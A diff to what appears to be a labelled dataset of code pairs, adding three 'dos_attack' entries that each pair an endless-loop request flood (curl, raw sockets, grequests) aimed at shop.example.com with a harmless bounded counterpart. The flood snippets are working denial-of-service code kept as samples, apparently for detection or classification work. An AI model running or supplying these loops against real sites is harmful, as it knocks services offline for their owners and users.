@@ -167,6 +167,16 @@ PAIRS = [
      "import smtplib\nclass Mailer:\n    def __init__(self, people):\n        self.people = people\n"
      "        self.s = smtplib.SMTP('smtp.example.org')\n    def send(self, to):\n        self.s.sendmail(ME, to, BODY)\n"
      "    def run(self):\n        for person in self.people:\n            self.send(person)\nMailer(subscribers).run()"),
+    ("flood: a request program run in an endless loop", "dos_attack",
+     "import os\nwhile True:\n    os.system('curl -s https://shop.example.com/ > /dev/null &')",
+     "import os\nfor i in range(100000):\n    os.system('curl -s http://localhost:8000/')"),
+    ("flood: connections created and written in an endless loop", "dos_attack",
+     "import socket\nwhile True:\n    s = socket.create_connection(('shop.example.com', 443))\n    s.send(b'GET / HTTP/1.1\\r\\n\\r\\n')",
+     "import socket\ns = socket.create_connection(('example.org', 80))\ns.send(b'GET / HTTP/1.0\\r\\n\\r\\n')\n"
+     "print(s.recv(4096))"),
+    ("flood: grequests mapped over a generator, answers unread", "dos_attack",
+     "import grequests\nurl = 'https://shop.example.com/'\nwhile True:\n    grequests.map((grequests.get(url) for _ in range(1000)))",
+     "import grequests\nreplies = grequests.map(grequests.get(u) for u in urls)\nfor r in replies:\n    print(r.status_code)"),
 ]
 
 
